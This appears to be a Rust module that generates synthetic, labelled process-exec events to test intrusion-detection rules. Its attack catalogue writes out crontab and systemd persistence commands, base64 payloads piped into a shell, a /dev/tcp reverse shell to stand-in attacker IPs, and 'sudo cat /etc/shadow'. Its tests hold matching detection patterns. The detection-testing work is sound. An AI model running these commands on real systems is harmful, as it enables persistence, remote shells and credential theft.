    &[
        t!(ANY, 2, [st("/bin/sh", "-c echo \"* * * * * root /tmp/.x\" >> /etc/crontab", Shell)]),
        t!(ANY, 2, [st("/usr/bin/crontab", "/tmp/cron.txt", Shell)]),
        t!(ANY, 1, [st("/usr/bin/crontab", "-e", Shell)]),
        t!(
            ANY,
            1,
            [st("/bin/sh", "-c (crontab -l 2>/dev/null; echo \"@reboot /var/tmp/.{=rand6}\") | crontab -", Shell)]
        ),
        t!(ANY, 2, [st("/usr/bin/systemctl", "enable {=evil_svc}.service", Shell)]),
        t!(
            ANY,
            1,
            [st("/usr/bin/cp", "/tmp/.{=rand6}/{=evil_svc}.service /etc/systemd/system/{=evil_svc}.service", Shell)]
        ),
    ],
    // Decoded payloads piped into a shell.
    &[
        t!(ANY, 2, [st("/bin/sh", "-c echo ZWNobyBwd25lZA== | base64 -d | sh", Shell)]),
        t!(ANY, 1, [st("/bin/bash", "-c base64 --decode payload.b64 | bash", Shell)]),
        t!(WEB, 2, [st("/bin/sh", "-c echo {=b64_revshell} | base64 -d | bash", Service)]),
    ],
];

/// A template index list per role, with weights summed, for weighted picks.
#[derive(Debug, Default)]
struct RoleTable {
    indices: Vec<usize>,
    total: u32,
}

impl RoleTable {
    fn build(templates: &[Template], role: Role) -> Self {
        let indices: Vec<usize> = (0..templates.len()).filter(|&i| templates[i].roles & role.bit() != 0).collect();
        let total = indices.iter().map(|&i| templates[i].weight).sum();
        Self { indices, total }
    }

    fn pick(&self, templates: &[Template], rng: &mut SmallRng) -> usize {
        let mut r = rng.random_range(0..self.total);
        for &i in &self.indices {
            let w = templates[i].weight;
            if r < w {
                return i;
            }
            r -= w;
        }
        unreachable!("weights sum to total")
    }
}

fn role_index(role: Role) -> usize {
    match role {
        Role::Web => 0,
        Role::Db => 1,
        Role::Build => 2,
        Role::Laptop => 3,
    }
}

/// A template step with its placeholders resolved.
#[derive(Debug, Clone)]
struct Filled {
    path: String,
    args: String,
    parent: Parent,
    opens_session: bool,
}

// ---------------------------------------------------------------------------
// Placeholder expansion
// ---------------------------------------------------------------------------

struct Filler<'a> {
    rng: &'a mut SmallRng,
    hosts: &'a [Host],
    me: usize,
    ts: i64,
    memo: Vec<(String, String)>,
}

impl Filler<'_> {
    fn fill(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len() + 16);
        let mut rest = text;
        while let Some(start) = rest.find("{=") {
            out.push_str(&rest[..start]);
            let after = &rest[start + 2..];
            let end = after.find('}').expect("unterminated placeholder");
            let key = &after[..end];
            let value = match self.memo.iter().find(|(k, _)| k == key) {
                Some((_, v)) => v.clone(),
                None => {
                    let pool = key.split('#').next().unwrap_or(key);
                    let mut raw = self.draw(pool);
                    // `#` asks for a *different* draw (two crates compiled,
                    // not one twice); a few retries suffice for any pool
                    // with more than one value.
                    for _ in 0..8 {
                        if pool == key || !self.memo.iter().any(|(_, v)| *v == raw) {
                            break;
                        }
                        raw = self.draw(pool);
                    }
                    // Pool values may themselves use placeholders.
                    let v = self.fill(&raw);
                    self.memo.push((key.to_string(), v.clone()));
                    v
                }
            };
            out.push_str(&value);
            rest = &after[end + 1..];
        }
        out.push_str(rest);
        out
    }

    fn pick(&mut self, xs: &[&str]) -> String {
        xs[self.rng.random_range(0..xs.len())].to_string()
    }

    fn alnum(&mut self, n: usize) -> String {
        const CHARS: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
        (0..n).map(|_| CHARS[self.rng.random_range(0..CHARS.len())] as char).collect()
    }

    fn hex(&mut self, n: usize) -> String {
        (0..n).map(|_| char::from_digit(self.rng.random_range(0..16), 16).unwrap()).collect()
    }

    fn draw(&mut self, pool: &str) -> String {
        let host = &self.hosts[self.me];
        let role = host.role;
        match pool {
            "pid" => {
                let hi = host.next_pid.max(301);
                let lo = hi.saturating_sub(3_000).max(300);
                self.rng.random_range(lo..hi).to_string()
            }
            "home" => host.home.clone(),
            "user" => host.home.rsplit('/').next().unwrap_or("deploy").to_string(),
            "pwd" => "{=home}/src/{=repo}".to_string(),
            "rustc" => "{=home}/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc".to_string(),
            "peer" => {
                let n = self.hosts.len();
                let mut j = self.rng.random_range(0..n);
                // Talking to yourself over ssh is rare; prefer another host.
                if j == self.me && n > 1 {
                    j = (j + 1) % n;
                }
                self.hosts[j].name.clone()
            }
            "peer_ip" => {
                // Laptops only know themselves as 127.0.1.1, so pings go to
                // servers (or the office gateway in a laptop-only fleet).
                let servers: Vec<&str> =
                    self.hosts.iter().filter(|h| h.role != Role::Laptop).map(|h| h.ip.as_str()).collect();
                if servers.is_empty() {
                    "10.0.0.1".to_string()
                } else {
                    servers[self.rng.random_range(0..servers.len())].to_string()
                }
            }
            "date" => {
                let (y, m, d) = civil_date(self.ts);
                format!("{y:04}-{m:02}-{d:02}")
            }
            "ver" => format!("1.{}.{}", self.rng.random_range(0..10), self.rng.random_range(0..25)),
            "ncpu" => self.pick(&["4", "8", "16"]),
            "hex12" => self.hex(12),
            "hex16" => self.hex(16),
            "sha" => self.hex(40),
            "tmp6" => self.alnum(6),
            "rand6" => self.alnum(6),
            "uuid" => format!("{}-{}-4{}-a{}-{}", self.hex(8), self.hex(4), self.hex(3), self.hex(3), self.hex(12)),
            "port" => self.pick(&["22", "443", "5432", "6379", "8080", "9100", "3000"]),
            "dir" => match role {
                Role::Laptop => {
                    self.pick(&["{=home}/Downloads", "{=home}/src", "{=home}/.ssh", "{=home}/.config", "/opt"])
                }
                _ => self.pick(&[
                    "/var/log",
                    "/etc/nginx/sites-enabled",
                    "/srv/app/releases",
                    "/opt",
                    "{=home}/.ssh",
                    "/var/lib/docker/volumes",
                    "/etc/apt/sources.list.d",
                ]),
            },
            "pattern" => self.pick(&["TODO", "FIXME", "unwrap()", "deprecated", "api_key", "XXX"]),
            "log" => match role {
                Role::Web => self.pick(&[
                    "/var/log/nginx/access.log",
                    "/var/log/nginx/error.log",
                    "/var/log/php8.1-fpm.log",
                    "/var/log/syslog",
                ]),
                Role::Db => self.pick(&[
                    "/var/log/postgresql/postgresql-14-main.log",
                    "/var/log/syslog",
                    "/var/log/redis/redis-server.log",
                ]),
                _ => self.pick(&["/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log"]),
            },
            "svc" => match role {
                Role::Web => self.pick(&["nginx", "php8.1-fpm", "node-exporter", "ssh", "cron"]),
                Role::Db => self.pick(&["postgresql", "redis-server", "node-exporter", "ssh"]),
                Role::Build => self.pick(&["docker", "gitlab-runner", "containerd", "ssh"]),
                Role::Laptop => self.pick(&["docker", "bluetooth", "NetworkManager", "tlp"]),
            },
            "editfile" => match role {
                Role::Web => {
                    self.pick(&["/etc/nginx/sites-available/default", "/etc/nginx/nginx.conf", "/srv/app/.env"])
                }
                Role::Db => {
                    self.pick(&["/etc/postgresql/14/main/postgresql.conf", "/etc/postgresql/14/main/pg_hba.conf"])
                }
                _ => self.pick(&[
                    "src/main.rs",
                    "Cargo.toml",
                    "docker-compose.yml",
                    "README.md",
                    ".gitlab-ci.yml",
                    "config.yaml",
                ]),
            },
            "file" => self.pick(&["config.yaml", "app.log", "dump.sql", "report.csv", "nginx.conf"]),
            "binfile" => self.pick(&["firmware.bin", "release.tar.gz", "logo.png", "app.jar"]),
            "cert" => self.pick(&["ISRG_Root_X1.pem", "ssl-cert-snakeoil.pem", "DigiCert_Global_Root_G2.pem"]),
            "tmux" => self.pick(&["main", "deploy", "0", "work"]),
            "domain" => {
                self.pick(&["api.example.com", "status.example.org", "grafana.example.net", "registry.example.com"])
            }
            "ghrepo" => self.pick(&["rust-lang/rust", "prometheus/node_exporter", "helm/helm", "kubernetes/kubectl"]),
            // Also used as a crate name, hence no hyphens.
            "repo" => self.pick(&["api", "billing", "infra", "dac", "storefront", "etl"]),
            "branch" => self.pick(&["main", "develop", "feature/rate-limit", "fix/login-timeout", "chore/bump-deps"]),
            "msg" => self.pick(&[
                "fix: handle empty batch",
                "Bump serde to 1.0.188",
                "WIP",
                "add retry to upload client",
                "docs: update runbook",
                "refactor config loading",
            ]),
            "pyscript" => self.pick(&[
                "report.py --since {=date}",
                "rotate_logs.py --dry-run",
                "sync_users.py",
                "healthcheck.py --timeout 5",
                "migrate_s3.py --bucket backups-{=date}",
            ]),
            "crate" => self.pick(&[
                "serde",
                "tokio",
                "regex",
                "libc",
                "syn",
                "quote",
                "memchr",
                "hashbrown",
                "serde_json",
                "itoa",
            ]),
            "cfile" => self.pick(&["main", "util", "parser", "net", "config"]),
            "container" => self.pick(&["api", "worker", "postgres", "redis", "nginx", "grafana"]),
            "ns" => self.pick(&["default", "payments", "monitoring", "kube-system", "ingress-nginx"]),
            "pod" => format!(
                "{}-{}-{}",
                self.pick(&["api", "worker", "checkout", "grafana"]),
                self.hex(9),
                self.alnum(5).to_lowercase()
            ),
            "pkg" => self.pick(&["jq", "htop", "nginx", "postgresql-client", "python3-venv", "build-essential"]),
            "db" => self.pick(&["app", "billing", "analytics"]),
            "atk_ip" => {
                let net = self.pick(&["203.0.113", "198.51.100", "192.0.2"]);
                format!("{net}.{}", self.rng.random_range(1..255))
            }
            "atk_port" => self.pick(&["4444", "443", "8080", "9001", "1337", "53"]),
            "atk_domain" => self.pick(&[
                "cdn-update.example.net",
                "pastebin.example.com",
                "img.example.org",
                "telemetry-sync.example",
            ]),
            "evil_svc" => self.pick(&["backdoor", "dbus-helper", "kworker-sync", "systemd-update-check"]),
            "b64_revshell" => {
                // Encoded at draw time so the payload varies like the
                // plain-text reverse shells do.
                let ip = self.draw("atk_ip");
                let port = self.draw("atk_port");
                base64(format!("bash -i >& /dev/tcp/{ip}/{port} 0>&1").as_bytes())
            }
            other => panic!("unknown placeholder pool {other:?}"),
        }
    }
}

fn base64(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b = [chunk[0], chunk.get(1).copied().unwrap_or(0), chunk.get(2).copied().unwrap_or(0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Proleptic Gregorian (year, month, day) for a Unix-epoch millisecond
/// timestamp (Howard Hinnant's `civil_from_days`), so generated file names
/// carry the date the event claims to be from.
fn civil_date(ts_ms: i64) -> (i64, u32, u32) {
    let z = ts_ms.div_euclid(86_400_000) + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let y = yoe + era * 400 + i64::from(m <= 2);
    (y, m, d)
}

/// The kernel's `comm`: the exec'd file's basename, cut to 15 bytes.
fn comm_of(path: &str) -> String {
    let base = path.rsplit('/').next().unwrap_or(path);
    let mut end = base.len().min(15);
    while !base.is_char_boundary(end) {
        end -= 1;
    }
    base[..end].to_string()
}

// ---------------------------------------------------------------------------
// The generator
// ---------------------------------------------------------------------------

/// An endless, seeded stream of exec events from a simulated fleet.
#[derive(Debug)]
pub struct EventGenerator {
    rng: SmallRng,
    hosts: Vec<Host>,
    host_weights: Vec<u32>,
    host_weight_total: u32,
    benign_by_role: [RoleTable; 4],
    /// Indexed `[role][rule idea]`.
    malicious_by_role: [[RoleTable; 6]; 4],
    malicious_per_mille: u32,
    /// Which of the current block of 1000 events are attacks.
    attack_slots: Vec<bool>,
    /// Events drawn so far by `next_labeled`.
    index: u64,
    /// Rule ideas not yet dealt in the current round.
    idea_deck: Vec<usize>,
    ts: i64,
}

impl EventGenerator {
    pub fn new(cfg: GeneratorConfig) -> Self {
        let mut rng = SmallRng::seed_from_u64(cfg.seed);
        let mut ordinals = [0usize; 4];
        let hosts: Vec<Host> = (0..cfg.hosts.max(1))
            .map(|i| {
                let role = ROLE_PATTERN[i % ROLE_PATTERN.len()];
                ordinals[role_index(role)] += 1;
                Host::new(role, ordinals[role_index(role)], &mut rng)
            })
            .collect();
        let host_weights: Vec<u32> = hosts.iter().map(|h| h.role.activity()).collect();
        let host_weight_total = host_weights.iter().sum();
        let roles = [Role::Web, Role::Db, Role::Build, Role::Laptop];
        Self {
            rng,
            hosts,
            host_weights,
            host_weight_total,
            benign_by_role: roles.map(|role| RoleTable::build(BENIGN, role)),
            malicious_by_role: roles.map(|role| MALICIOUS.map(|templates| RoleTable::build(templates, role))),
            malicious_per_mille: cfg.malicious_per_mille.min(1_000),
            attack_slots: vec![false; 1_000],
            index: 0,
            idea_deck: Vec::new(),
            ts: cfg.start_ts_ms,
        }
    }

    /// The next event and whether it came from the attack catalogue — ground
    /// truth for measuring a rule set's precision and recall.
    pub fn next_labeled(&mut self) -> (Value, bool) {
        let malicious = self.is_attack_slot();
        self.advance_clock();
        let hi = self.pick_host();
        if malicious {
            let role = role_index(self.hosts[hi].role);
            let idea = self.deal_idea();
            let templates = MALICIOUS[idea];
            let t = self.malicious_by_role[role][idea].pick(templates, &mut self.rng);
            let mut steps = self.fill_template(hi, &templates[t]);
            let step = steps.pop_front().expect("templates have steps");
            (self.emit(hi, step, false), true)
        } else {
            if self.hosts[hi].pending.is_empty() {
                let role = role_index(self.hosts[hi].role);
                let t = self.benign_by_role[role].pick(BENIGN, &mut self.rng);
                let steps = self.fill_template(hi, &BENIGN[t]);
                let host = &mut self.hosts[hi];
                host.pending = steps;
                host.seq_pids.clear();
            }
            let step = self.hosts[hi].pending.pop_front().expect("just refilled");
            (self.emit(hi, step, true), false)
        }
    }

    /// The seed talk's `/usr/bin/sudo cat /etc/shadow`, run from a shell on
    /// the `pop-os` laptop with this stream's clock and pids, so it can be
    /// planted in a generated corpus without looking out of place.
    pub fn next_seed_shadow_event(&mut self) -> Value {
        self.advance_clock();
        let shell = self.hosts[0].random_session(&mut self.rng);
        let step = Filled {
            path: "/usr/bin/sudo".to_string(),
            args: "cat /etc/shadow".to_string(),
            parent: Parent::Fixed(shell),
            opens_session: false,
        };
        self.emit(0, step, false)
    }

    /// Exactly `malicious_per_mille` random positions in every block of 1000
    /// events are attacks. Independent coin flips would make small fixtures
    /// swing widely (1,200 events at 1 % can hold 4 attacks or 20); fixed
    /// counts per block keep alert totals stable across seeds.
    fn is_attack_slot(&mut self) -> bool {
        let pos = (self.index % 1_000) as usize;
        if pos == 0 {
            let m = self.malicious_per_mille as usize;
            let mut order: Vec<u16> = (0..1_000).collect();
            self.attack_slots.fill(false);
            // Partial Fisher-Yates: the first m entries are a uniform sample.
            for k in 0..m {
                let j = self.rng.random_range(k..order.len());
                order.swap(k, j);
                self.attack_slots[usize::from(order[k])] = true;
            }
        }
        self.index += 1;
        self.attack_slots[pos]
    }

    /// Rule ideas are dealt from a shuffled deck so that even a handful of
    /// attacks covers all six before any repeats.
    fn deal_idea(&mut self) -> usize {
        if self.idea_deck.is_empty() {
            self.idea_deck.extend(0..MALICIOUS.len());
            for k in (1..self.idea_deck.len()).rev() {
                let j = self.rng.random_range(0..=k);
                self.idea_deck.swap(k, j);
            }
        }
        self.idea_deck.pop().expect("just refilled")
    }

    fn advance_clock(&mut self) {
        // Exponential gaps (mean 40 ms) give bursts and lulls, like a real
        // fleet, while keeping ts non-decreasing.
        let u: f64 = self.rng.random::<f64>();
        self.ts += (-(1.0 - u).ln() * 40.0) as i64;
    }

    fn pick_host(&mut self) -> usize {
        let mut r = self.rng.random_range(0..self.host_weight_total);
        for (i, &w) in self.host_weights.iter().enumerate() {
            if r < w {
                return i;
            }
            r -= w;
        }
        unreachable!("weights sum to total")
    }

    fn fill_template(&mut self, hi: usize, template: &Template) -> VecDeque<Filled> {
        let shell = self.hosts[hi].random_session(&mut self.rng);
        let mut filler = Filler { rng: &mut self.rng, hosts: &self.hosts, me: hi, ts: self.ts, memo: Vec::new() };
        template
            .steps
            .iter()
            .map(|s| Filled {
                path: filler.fill(s.path),
                args: filler.fill(s.args),
                parent: match s.parent {
                    Parent::Shell => Parent::Fixed(shell),
                    p => p,
                },
                opens_session: s.opens_session,
            })
            .collect()
    }

    fn emit(&mut self, hi: usize, step: Filled, in_sequence: bool) -> Value {
        let rng = &mut self.rng;
        let host = &mut self.hosts[hi];
        let parent_pid = match step.parent {
            Parent::Init => 1,
            Parent::CronChild => host.alloc_pid(rng),
            Parent::Sshd => host.sshd,
            Parent::Agent => host.agent,
            Parent::Service => host.service,
            Parent::Fixed(pid) => pid,
            Parent::Step(k) => match host.seq_pids.get(k) {
                Some(&pid) => pid,
                None => host.random_session(rng),
            },
            Parent::Shell => host.random_session(rng),
        };
        let pid = host.alloc_pid(rng);
        if in_sequence {
            host.seq_pids.push(pid);
        }
        if step.opens_session {
            host.sessions.push(pid);
            if host.sessions.len() > MAX_SESSIONS {
                host.sessions.remove(0);
            }
        }
        let command_line =
            if step.args.is_empty() { step.path.clone() } else { format!("{} {}", step.path, step.args) };
        let mut m = Map::with_capacity(9);
        m.insert("hostname".into(), Value::from(host.name.clone()));
        m.insert("ip_address".into(), Value::from(host.ip.clone()));
        m.insert("parent_pid".into(), Value::from(parent_pid));
        m.insert("pid".into(), Value::from(pid));
        m.insert("path".into(), Value::from(step.path.as_str()));
        m.insert("binary".into(), Value::from(comm_of(&step.path)));
        m.insert("arguments".into(), Value::from(step.args));
        m.insert("command_line".into(), Value::from(command_line));
        m.insert("ts".into(), Value::from(self.ts));
        Value::Object(m)
    }
}

impl Iterator for EventGenerator {
    type Item = Value;

    fn next(&mut self) -> Option<Value> {
        Some(self.next_labeled().0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEYS: [&str; 9] =
        ["hostname", "ip_address", "parent_pid", "pid", "path", "binary", "arguments", "command_line", "ts"];

    fn cfg(seed: u64) -> GeneratorConfig {
        GeneratorConfig { seed, ..GeneratorConfig::default() }
    }

    fn s<'a>(e: &'a Value, k: &str) -> &'a str {
        e[k].as_str().unwrap_or_else(|| panic!("{k} is not a string in {e}"))
    }

    /// Whether a pipe hands its input to a shell (`| sh`, `| sudo bash`),
    /// as opposed to `| ssh` or `| sha256sum`.
    fn pipes_into_shell(cl: &str) -> bool {
        cl.match_indices('|').any(|(i, _)| {
            let rest = cl[i + 1..].trim_start();
            let rest = rest.strip_prefix("sudo ").unwrap_or(rest);
            let word = rest.split_whitespace().next().unwrap_or("");
            matches!(word, "sh" | "bash" | "zsh" | "dash")
        })
    }

    /// The six rule ideas from the seed talk and the project brief, as
    /// reasonably careful substring checks.
    fn rule_ideas(e: &Value) -> [bool; 6] {
        let cl = s(e, "command_line");
        let binary = s(e, "binary");
        let args = s(e, "arguments");
        [
            cl.contains("/etc/shadow"),
            cl.contains("> /tmp/"),
            cl.contains("/dev/tcp/") || cl.contains("/dev/udp/"),
            (cl.contains("curl") || cl.contains("wget")) && pipes_into_shell(cl),
            (binary == "crontab" && args != "-l")
                || cl.contains("| crontab")
                || cl.contains("> /etc/crontab")
                || cl.contains("systemctl enable")
                || cl.contains("> /etc/systemd/system/")
                || (matches!(binary, "cp" | "mv" | "tee" | "install") && cl.contains("/etc/systemd/system/")),
            (cl.contains("base64 -d") || cl.contains("base64 --decode")) && pipes_into_shell(cl),
        ]
    }

    #[test]
    fn same_seed_same_stream_other_seed_other_stream() {
        let a: Vec<Value> = EventGenerator::new(cfg(7)).take(2_000).collect();
        let b: Vec<Value> = EventGenerator::new(cfg(7)).take(2_000).collect();
        let c: Vec<Value> = EventGenerator::new(cfg(8)).take(2_000).collect();
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn malicious_rate_matches_config() {
        let count = |per_mille: u32, n: usize| {
            let mut g = EventGenerator::new(GeneratorConfig { malicious_per_mille: per_mille, ..cfg(3) });
            (0..n).filter(|_| g.next_labeled().1).count()
        };
        // Whole blocks of 1000 hold exactly the configured share.
        assert_eq!(count(10, 100_000), 1_000);
        assert_eq!(count(37, 100_000), 3_700);
        // A partial block holds a random part of its share.
        let partial = count(10, 1_500);
        assert!((10..=20).contains(&partial), "{partial} of 1500");
        assert_eq!(count(0, 10_000), 0);
        assert_eq!(count(1_000, 3_000), 3_000);
        assert_eq!(count(5_000, 3_000), 3_000, "clamped to all events");
    }

    #[test]
    fn attack_positions_vary_between_blocks() {
        let mut g = EventGenerator::new(cfg(4));
        let flags: Vec<bool> = (0..2_000).map(|_| g.next_labeled().1).collect();
        assert_ne!(flags[..1_000], flags[1_000..]);
    }

    #[test]
    fn a_few_attacks_cover_all_six_rule_ideas() {
        let mut g = EventGenerator::new(GeneratorConfig { malicious_per_mille: 1_000, ..cfg(6) });
        let mut seen = [false; 6];
        for _ in 0..6 {
            let (e, _) = g.next_labeled();
            for (s, b) in seen.iter_mut().zip(rule_ideas(&e)) {
                *s |= b;
            }
        }
        assert_eq!(seen, [true; 6]);
    }

    #[test]
    fn events_have_the_seed_schema() {
        for e in EventGenerator::new(cfg(11)).take(20_000) {
            let obj = e.as_object().expect("object");
            let keys: Vec<&str> = obj.keys().map(String::as_str).collect();
            assert_eq!(keys, KEYS, "{e}");
            for k in ["hostname", "ip_address", "path", "binary", "arguments", "command_line"] {
                s(&e, k);
            }
            for k in ["parent_pid", "pid", "ts"] {
                assert!(e[k].is_u64(), "{k} is not a non-negative integer in {e}");
            }
            let (path, args) = (s(&e, "path"), s(&e, "arguments"));
            let expected = if args.is_empty() { path.to_string() } else { format!("{path} {args}") };
            assert_eq!(s(&e, "command_line"), expected);
            let binary = s(&e, "binary");
            assert!(!binary.is_empty() && binary.len() <= 15, "{e}");
            assert!(path.ends_with(binary) || path.rsplit('/').next().unwrap().starts_with(binary));
            assert!(e["parent_pid"].as_u64() < e["pid"].as_u64(), "{e}");
        }
    }

    #[test]
    fn pids_increase_per_host_and_time_never_goes_back() {
        let mut last_pid = std::collections::HashMap::new();
        let mut last_ts = 0;
        for e in EventGenerator::new(cfg(5)).take(50_000) {
            let pid = e["pid"].as_u64().unwrap();
            if let Some(prev) = last_pid.insert(s(&e, "hostname").to_string(), pid) {
                assert!(pid > prev, "{e}");
            }
            let ts = e["ts"].as_u64().unwrap();
            assert!(ts >= last_ts);
            last_ts = ts;
        }
    }

    #[test]
    fn benign_never_trips_a_rule_and_every_attack_trips_one() {
        let mut g = EventGenerator::new(GeneratorConfig { malicious_per_mille: 50, ..cfg(9) });
        let mut hit = [0usize; 6];
        let mut benign_commands = std::collections::HashSet::new();
        for _ in 0..100_000 {
            let (e, bad) = g.next_labeled();
            let ideas = rule_ideas(&e);
            if bad {
                assert!(ideas.iter().any(|&b| b), "attack trips no rule: {e}");
                for (h, b) in hit.iter_mut().zip(ideas) {
                    *h += usize::from(b);
                }
            } else {
                assert!(!ideas.iter().any(|&b| b), "benign event trips a rule: {e}");
                benign_commands.insert(s(&e, "command_line").to_string());
            }
            assert_ne!(s(&e, "command_line"), "/usr/bin/sudo cat /etc/shadow");
        }
        assert!(hit.iter().all(|&h| h > 0), "some rule idea never fires: {hit:?}");
        assert!(benign_commands.len() > 1_000, "benign traffic too repetitive");
    }

    #[test]
    fn any_fleet_size_works() {
        for hosts in [0, 1, 2, 30] {
            let events: Vec<Value> = EventGenerator::new(GeneratorConfig { hosts, ..cfg(12) }).take(5_000).collect();
            let names: std::collections::HashSet<&str> = events.iter().map(|e| s(e, "hostname")).collect();
            assert!(names.contains("pop-os"));
            assert!(names.len() <= hosts.max(1), "{names:?}");
        }
    }

    #[test]
    fn every_template_expands() {
        // Exercises each pool once per role, so a typo in a placeholder
        // fails here instead of in some rarely drawn corner of a long run.
        let mut g = EventGenerator::new(cfg(1));
        for hi in 0..g.hosts.len() {
            for t in BENIGN.iter().chain(MALICIOUS.iter().copied().flatten()) {
                for step in g.fill_template(hi, t) {
                    assert!(!step.path.contains("{=") && !step.args.contains("{="));
                }
            }
        }
    }

    #[test]
    fn seed_event_is_verbatim_and_planted_event_fits_the_stream() {
        let seed = seed_shadow_event();
        assert_eq!(
            serde_json::to_string(&seed).unwrap(),
            r#"{"hostname":"pop-os","ip_address":"127.0.1.1","parent_pid":1,"pid":2,"path":"/usr/bin/sudo","binary":"sudo","arguments":"cat /etc/shadow","command_line":"/usr/bin/sudo cat /etc/shadow"}"#
        );
        let mut g = EventGenerator::new(cfg(42));
        let _ = g.by_ref().take(100).count();
        let planted = g.next_seed_shadow_event();
        assert_eq!(s(&planted, "hostname"), "pop-os");
        assert_eq!(s(&planted, "command_line"), "/usr/bin/sudo cat /etc/shadow");
        assert!(planted["parent_pid"].as_u64() < planted["pid"].as_u64());
    }

    #[test]
    fn helpers() {
        assert_eq!(base64(b"echo hi"), "ZWNobyBoaQ==");
        assert_eq!(base64(b"echo pwned"), "ZWNobyBwd25lZA==");
        assert_eq!(civil_date(1_695_342_026_084), (2023, 9, 22));
        assert_eq!(civil_date(0), (1970, 1, 1));
        assert_eq!(comm_of("/usr/sbin/updatedb.plocate"), "updatedb.plocat");
        assert_eq!(comm_of("/usr/bin/sudo"), "sudo");
    }

    #[test]
    fn ndjson_is_one_object_per_line() {
        let mut buf = Vec::new();
        write_ndjson(cfg(2), 500, &mut buf).unwrap();
        let text = String::from_utf8(buf).unwrap();
        assert_eq!(text.lines().count(), 500);
        for line in text.lines() {
            assert!(serde_json::from_str::<Value>(line).unwrap().is_object());
        }
    }
}
